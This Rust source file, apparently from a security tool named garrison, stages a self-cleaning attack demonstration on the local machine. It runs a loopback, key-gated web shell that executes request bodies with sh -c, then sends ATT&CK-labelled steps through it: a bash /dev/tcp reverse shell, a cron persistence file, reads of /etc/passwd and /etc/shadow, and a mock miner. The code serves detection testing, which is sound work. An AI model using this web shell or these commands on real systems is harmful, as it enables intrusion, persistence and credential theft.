//! The demo's attack: real programs doing real, harmless things on this machine, all undone afterwards.
//!
//! This program, copied under the names `apache2` and `xmrig` into a folder of its own below the temporary folder, plays
//! two parts: a web server with a hole that runs what a request asks for, and a miner that mines nothing.

use crate::tools::{Done, Failure, paint, tell, wait_for};
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode, Stdio};
use std::time::Duration;

/// If this program runs under the name of a part, plays it.
pub fn play_part() -> Option<ExitCode> {
    let name = std::env::args().next()?;
    match Path::new(&name).file_name()?.to_str()? {
        "apache2" => Some(web_server()),
        "xmrig" => {
            // Long enough to be seen by anything that polls, too short to matter.
            std::thread::sleep(Duration::from_millis(1500));
            Some(ExitCode::SUCCESS)
        }
        _ => None,
    }
}

/// A web server on loopback that runs the `cmd` of a request: the hole that a web shell is. It serves at most 32
/// requests and only its own user can know its port and key.
fn web_server() -> ExitCode {
    let Some(key) = std::env::args().nth(1) else { return ExitCode::from(2) };
    let Ok(listener) = TcpListener::bind("127.0.0.1:0") else { return ExitCode::FAILURE };
    let Ok(address) = listener.local_addr() else { return ExitCode::FAILURE };
    println!("{} {}", address.port(), std::process::id());
    for stream in listener.incoming().take(32).flatten() {
        if serve(stream, &key).is_none() {
            return ExitCode::SUCCESS;
        }
    }
    ExitCode::SUCCESS
}

fn serve(mut stream: TcpStream, key: &str) -> Option<()> {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let mut reader = BufReader::new(stream.try_clone().ok()?.take(64 << 10));
    let mut request = String::new();
    reader.read_line(&mut request).ok()?;
    let mut header = String::new();
    let (mut length, mut allowed) = (0_usize, false);
    while reader.read_line(&mut header).is_ok_and(|n| n > 2) {
        let line = header.trim().to_ascii_lowercase();
        if let Some(value) = line.strip_prefix("content-length:") {
            length = value.trim().parse().unwrap_or(0).min(8192);
        }
        allowed |= header.trim().strip_prefix("X-Key: ") == Some(key);
        header.clear();
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body).ok()?;
    let text = String::from_utf8_lossy(&body).into_owned();
    if !allowed || request.starts_with("GET /quit") {
        return if allowed { None } else { Some(()) };
    }
    let out = Command::new("sh").args(["-c", &text]).stdin(Stdio::null()).output();
    let answer = out.map(|o| [o.stdout, o.stderr].concat()).unwrap_or_default();
    let _ = write!(stream, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", answer.len());
    let _ = stream.write_all(&answer);
    Some(())
}

/// Plays the whole attack and undoes it.
pub fn run(quiet: bool) -> Done {
    let attack = Attack::prepare()?;
    let played = attack.play(quiet);
    attack.undo()?;
    played
}

/// A played attack; dropping it undoes what is left.
pub struct Attack {
    folder: PathBuf,
    server: u32,
    port: u16,
    key: String,
}

/// The file that the persistence step writes.
const CRON: &str = "/etc/cron.d/garrison-demo";

impl Attack {
    /// Sets the stage: the folder and the web server with the hole.
    pub fn prepare() -> Done<Self> {
        let key = format!("{:x}{:x}", std::process::id(), std::time::UNIX_EPOCH.elapsed().map_or(0, |d| d.as_nanos()));
        let folder = std::env::temp_dir().join(format!(".garrison-demo-{}", std::process::id()));
        std::fs::create_dir(&folder)?;
        std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o700))?;
        let web = folder.join("apache2");
        // Not by its name: a build may have replaced the file meanwhile.
        std::fs::copy("/proc/self/exe", &web)?;
        // A session of its own, below init, as a web server has it.
        let mut launcher = Command::new("setsid");
        // Only what a web server's environment holds; and the shells find no home of ours to read or write.
        launcher.env_clear().env("PATH", "/usr/sbin:/usr/bin:/sbin:/bin").env("HOME", &folder);
        launcher.arg("--fork").arg(&web).arg(&key).stdin(Stdio::null()).stdout(Stdio::piped());
        let mut launched = launcher.spawn()?;
        let mut line = String::new();
        if let Some(out) = launched.stdout.take() {
            BufReader::new(out).read_line(&mut line)?;
        }
        launched.wait()?;
        let numbers = line.trim().split_once(' ').and_then(|(p, s)| Some((p.parse().ok()?, s.parse().ok()?)));
        let (port, server) = numbers.ok_or_else(|| Failure("the demo's web server did not start".into()))?;
        Ok(Self { folder, server, port, key })
    }

    /// Sends one command through the hole and gives back what it printed.
    fn through_the_hole(&self, shell: &str) -> Done<String> {
        let mut stream = TcpStream::connect(("127.0.0.1", self.port))?;
        stream.set_read_timeout(Some(Duration::from_secs(20)))?;
        write!(
            stream,
            "POST /uploads/image.php HTTP/1.1\r\nHost: localhost\r\nX-Key: {}\r\nContent-Length: {}\r\n\r\n{shell}",
            self.key,
            shell.len()
        )?;
        let mut answer = String::new();
        let _ = stream.read_to_string(&mut answer);
        Ok(answer.split_once("\r\n\r\n").map(|(_, body)| body.to_owned()).unwrap_or_default())
    }

    /// Plays all steps; each is said as it happens.
    pub fn play(&self, quiet: bool) -> Done {
        let say = |technique: &str, words: &str| {
            if !quiet {
                tell!("  {} {words}", paint("35", &format!("{technique:<10}")));
            }
        };
        let folder = self.folder.display().to_string();
        say("T1505.003", "a request makes the web server start a shell that looks around");
        self.through_the_hole("id; whoami; uname -a; cat /etc/passwd | wc -l")?;

        say("T1105", "a file is dropped, made executable and run");
        self.through_the_hole(&format!(
            "cp \"$(command -v id)\" {folder}/update && chmod +x {folder}/update && {folder}/update"
        ))?;

        say("T1059.004", "a reverse shell connects over loopback");
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let port = listener.local_addr()?.port();
        let hands = std::thread::spawn(move || {
            if let Ok((mut shell, _)) = listener.accept() {
                let _ = shell.set_read_timeout(Some(Duration::from_secs(3)));
                let _ = shell.write_all(b"hostname; whoami; exit\n");
                let mut seen = [0; 4096];
                while shell.read(&mut seen).is_ok_and(|n| n > 0) {}
            }
        });
        self.through_the_hole(&format!("timeout 5 bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1' </dev/null"))?;
        // Free the listener if the shell never came (no bash on this machine).
        let _ = TcpStream::connect(("127.0.0.1", port));
        let _ = hands.join();

        say("T1053.003", "a line for cron is left behind");
        self.through_the_hole(&format!("echo '@yearly root /bin/true' > {CRON}"))?;

        say("T1003.008", "the password file is read");
        self.through_the_hole("cat /etc/shadow > /dev/null")?;

        say("T1496", "something that looks like a miner runs");
        let miner = format!("{folder}/xmrig");
        self.through_the_hole(&format!(
            "cp {folder}/apache2 {miner} && {miner} -o stratum+tcp://127.0.0.1:3333 -u demo --donate-level 1 --cpu-priority 0"
        ))?;
        Ok(())
    }

    /// Undoes everything and says whether the host is as it was.
    pub fn undo(mut self) -> Done {
        self.clean();
        if Path::new(CRON).exists() || self.folder.exists() {
            return Err(Failure("the demo could not remove all it made".into()));
        }
        Ok(())
    }

    fn clean(&mut self) {
        if let Ok(mut stream) = TcpStream::connect(("127.0.0.1", self.port)) {
            let _ = write!(stream, "GET /quit HTTP/1.1\r\nX-Key: {}\r\n\r\n", self.key);
        }
        let process = PathBuf::from(format!("/proc/{}/exe", self.server));
        let ours = || std::fs::read_link(&process).is_ok_and(|exe| exe.starts_with(&self.folder));
        if wait_for(Duration::from_secs(2), || (!ours()).then_some(())).is_none() {
            let _ = Command::new("kill").args(["-KILL", &self.server.to_string()]).status();
        }
        let ours = std::fs::read_to_string(CRON).is_ok_and(|t| t == "@yearly root /bin/true\n");
        if ours {
            let _ = std::fs::remove_file(CRON);
        }
        let _ = std::fs::remove_dir_all(&self.folder);
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.clean();
    }
}
